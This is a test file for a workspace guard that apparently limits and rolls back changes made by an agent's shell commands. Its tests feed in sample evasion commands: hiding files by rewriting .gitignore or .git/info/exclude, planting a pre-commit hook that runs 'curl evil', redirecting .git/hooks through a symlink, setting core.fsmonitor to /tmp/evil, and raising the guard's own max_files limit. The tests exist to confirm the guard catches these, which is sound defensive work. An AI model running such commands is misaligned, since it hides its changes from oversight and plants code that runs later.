/**
 * Limits and rollback see every change a command makes: measured against
 * the ignore rules as they were before it ran, lines of any size and kind
 * counted, and `.git/` or the config changed by a command charged as a
 * Pattern violation and put back whatever on_violation says.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { defaultConfig } from '../../src/config/config.js';
import { checkpointCreateTool, checkpointRestoreTool } from '../../src/tools/service-tools.js';
import { BUILTIN_TOOLS } from '../../src/tools/registry.js';
import { ToolRunner } from '../../src/tools/runner.js';
import { openWorkspace } from '../../src/workspace/open.js';

let root: string;
beforeEach(() => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ew-effects-rules-')));
  fs.writeFileSync(path.join(root, 'a.txt'), 'one\n');
  fs.writeFileSync(path.join(root, '.gitignore'), 'build/\n');
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

type Config = ReturnType<typeof defaultConfig>;
function start(mutate: (c: Config) => void = () => {}): ToolRunner {
  const config = defaultConfig();
  config.constraints.allowed_tools = [];
  // The accounting must hold where commands run unsandboxed (no bwrap, --unsandboxed): inside the sandbox
  // the writes to .git/ and the config fail at the source (test/sandbox/attacks.test.ts).
  config.sandbox.enabled = false;
  config.sandbox.allow_unsandboxed = true;
  mutate(config);
  const { ws, transactions } = openWorkspace(root);
  return ToolRunner.start({ ws, config, transactions, artifacts: false, tools: [...BUILTIN_TOOLS, checkpointCreateTool, checkpointRestoreTool] });
}

const exists = (rel: string) => fs.existsSync(path.join(root, rel));
const git = (...args: string[]) => execFileSync('git', args, { cwd: root, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }).trim();

describe('command effects are measured against the ignore rules from before the command', () => {
  const hide = "printf '*\\n' > .gitignore && for i in $(seq 1 50); do echo x > f$i.txt; done";

  it('a command that writes * into .gitignore and creates 50 files is charged 51 files', async () => {
    const run = start((c) => (c.constraints.max_files = 1000));
    const r = await run.call({ tool: 'execute_command', args: { command: hide } });
    expect(r.status, r.output).toBe('ok');
    expect(r.files.length).toBe(51);
    expect(run.totals().files_modified).toBe(51);
  });

  it('and under on_violation: rollback its files are removed and .gitignore put back', async () => {
    const run = start((c) => {
      c.constraints.on_violation = 'rollback';
      c.constraints.max_files = 10;
    });
    const r = await run.call({ tool: 'execute_command', args: { command: hide } });
    expect(r.violation).toMatchObject({ type: 'FileModification', constraint: 'max_files', actual: 51 });
    expect(run.finish().metrics.outcome).toBe('rolled-back');
    expect(fs.readdirSync(root).filter((n) => /^f\d+\.txt$/.test(n))).toEqual([]);
    expect(fs.readFileSync(path.join(root, '.gitignore'), 'utf8')).toBe('build/\n');
  });

  it('.git/info/exclude rewritten by the command does not hide its files either (and is put back)', async () => {
    git('init', '-q');
    const before = fs.readFileSync(path.join(root, '.git/info/exclude'), 'utf8');
    const run = start();
    const r = await run.call({ tool: 'execute_command', args: { command: "printf '*\\n' >> .git/info/exclude && echo x > hidden.txt" } });
    expect(r.files).toContain('hidden.txt');
    expect(r.violation).toMatchObject({ type: 'Pattern', constraint: 'protected_paths', path: '.git/info/exclude' });
    expect(fs.readFileSync(path.join(root, '.git/info/exclude'), 'utf8')).toBe(before);
  });
});

describe('lines of any size and kind are counted', () => {
  it('`seq 1 200000 > a.txt` fails --max-lines 10', async () => {
    const run = start((c) => (c.constraints.max_lines_changed = 10));
    const r = await run.call({ tool: 'execute_command', args: { command: 'seq 1 200000 > a.txt' } });
    expect(r.violation).toMatchObject({ type: 'FileModification', constraint: 'max_lines_changed' });
    expect(r.lines_added).toBe(200_000);
    expect(r.lines_removed).toBe(1);
  });

  it('a 700k-line checkpoint_restore fails max_lines_changed: 10 and writes nothing', async () => {
    const big = Array.from({ length: 700_000 }, (_, i) => `${i}\n`).join('');
    fs.writeFileSync(path.join(root, 'big.txt'), big);
    const run = start((c) => (c.constraints.max_lines_changed = 10));
    const cp = await run.call({ tool: 'checkpoint_create', args: { paths: ['big.txt'] } });
    const id = (cp.data as { id: string }).id;
    fs.writeFileSync(path.join(root, 'big.txt'), 'short\n');
    const r = await run.call({ tool: 'checkpoint_restore', args: { id } });
    expect(r.violation).toMatchObject({ type: 'FileModification', constraint: 'max_lines_changed', prevented: true });
    expect(fs.readFileSync(path.join(root, 'big.txt'), 'utf8')).toBe('short\n');
  });

  it('a binary change (NUL bytes, no patch) is charged one file and at least one line', async () => {
    fs.writeFileSync(path.join(root, 'blob.bin'), Buffer.alloc(2 << 20));
    const run = start();
    const r = await run.call({ tool: 'execute_command', args: { command: "printf '\\001' | dd of=blob.bin bs=1 seek=1000000 conv=notrunc status=none" } });
    expect(r.files).toEqual(['blob.bin']);
    expect(r.lines_added).toBeGreaterThanOrEqual(1);
    expect(r.lines_removed).toBeGreaterThanOrEqual(1);
  });
});

describe('.git/ and the config changed by a command: a Pattern violation, reverted whatever on_violation says', () => {
  it('a planted .git/hooks/pre-commit is charged and removed (on_violation: keep)', async () => {
    git('init', '-q');
    const run = start((c) => (c.constraints.on_violation = 'keep'));
    const r = await run.call({ tool: 'execute_command', args: { command: "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ok > a.txt" } });
    expect(r.violation).toMatchObject({ type: 'Pattern', constraint: 'protected_paths', path: '.git/hooks/pre-commit', prevented: false });
    expect(r.files).toEqual(expect.arrayContaining(['.git/hooks/pre-commit', 'a.txt']));
    expect(exists('.git/hooks/pre-commit')).toBe(false);
    expect(run.finish().metrics.outcome).toBe('kept');
    // Keep: the project change stays; only what governs git was put back.
    expect(fs.readFileSync(path.join(root, 'a.txt'), 'utf8')).toBe('ok\n');
  });

  it('.git/hooks swapped for a symlink to an outside folder: put back as a real folder, nothing written outside by the revert', async () => {
    git('init', '-q');
    const outside = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ew-outside-')));
    try {
      const hooks = fs.readdirSync(path.join(root, '.git/hooks')).sort();
      const run = start();
      const r = await run.call({ tool: 'execute_command', args: { command: `mv .git/hooks .git/hooks.bak && ln -s ${outside} .git/hooks` } });
      expect(r.violation).toMatchObject({ type: 'Pattern', constraint: 'protected_paths' });
      expect(fs.lstatSync(path.join(root, '.git/hooks')).isDirectory()).toBe(true);
      expect(fs.readdirSync(path.join(root, '.git/hooks')).sort()).toEqual(hooks);
      expect(exists('.git/hooks.bak')).toBe(false);
      expect(fs.readdirSync(outside)).toEqual([]);
    } finally {
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });

  it("a moved HEAD (git reset) is git's data, the command's to write: no violation, nothing put back", async () => {
    git('init', '-q');
    git('add', 'a.txt');
    git('commit', '-qm', 'one');
    const first = git('rev-parse', 'HEAD');
    fs.writeFileSync(path.join(root, 'a.txt'), 'two\n');
    git('commit', '-qam', 'two');
    const run = start();
    const r = await run.call({ tool: 'execute_command', args: { command: 'git reset -q --soft HEAD~1' } });
    expect(r.violation, r.output).toBeUndefined();
    expect(git('rev-parse', 'HEAD')).toBe(first);
    expect(exists('.git/ORIG_HEAD')).toBe(true);
  });

  it('a rewritten .git/config (machinery) is still a violation and put back', async () => {
    git('init', '-q');
    const before = fs.readFileSync(path.join(root, '.git/config'), 'utf8');
    const run = start();
    const r = await run.call({ tool: 'execute_command', args: { command: 'git config core.fsmonitor /tmp/evil; true' } });
    expect(fs.readFileSync(path.join(root, '.git/config'), 'utf8')).toBe(before);
    expect(r.violation).toMatchObject({ type: 'Pattern', constraint: 'protected_paths', path: '.git/config' });
  });

  it('a read-only git command (git status refreshing the index, git log) is no violation', async () => {
    git('init', '-q');
    git('add', 'a.txt');
    git('commit', '-qm', 'one');
    fs.writeFileSync(path.join(root, 'a.txt'), 'one\n'); // same bytes, new mtime: git status rewrites the index
    const run = start();
    const r = await run.call({ tool: 'execute_command', args: { command: 'git status --short && git log --oneline' } });
    expect(r.status, r.output).toBe('ok');
    expect(r.violation).toBeUndefined();
  });

  it('a rewritten .editwarden.yml is charged and put back; a created one is removed', async () => {
    fs.writeFileSync(path.join(root, '.editwarden.yml'), 'constraints:\n  max_files: 3\n');
    const run = start();
    const r = await run.call({ tool: 'execute_command', args: { command: "printf 'constraints:\\n  max_files: 100000\\n' > .editwarden.yml" } });
    expect(r.violation).toMatchObject({ type: 'Pattern', constraint: 'protected_paths', path: '.editwarden.yml' });
    expect(fs.readFileSync(path.join(root, '.editwarden.yml'), 'utf8')).toBe('constraints:\n  max_files: 3\n');

    fs.rmSync(path.join(root, '.editwarden.yml'));
    const again = start();
    const r2 = await again.call({ tool: 'execute_command', args: { command: "printf 'constraints: {}\\n' > .editwarden.yml" } });
    expect(r2.violation).toMatchObject({ constraint: 'protected_paths' });
    expect(exists('.editwarden.yml')).toBe(false);
  });
});
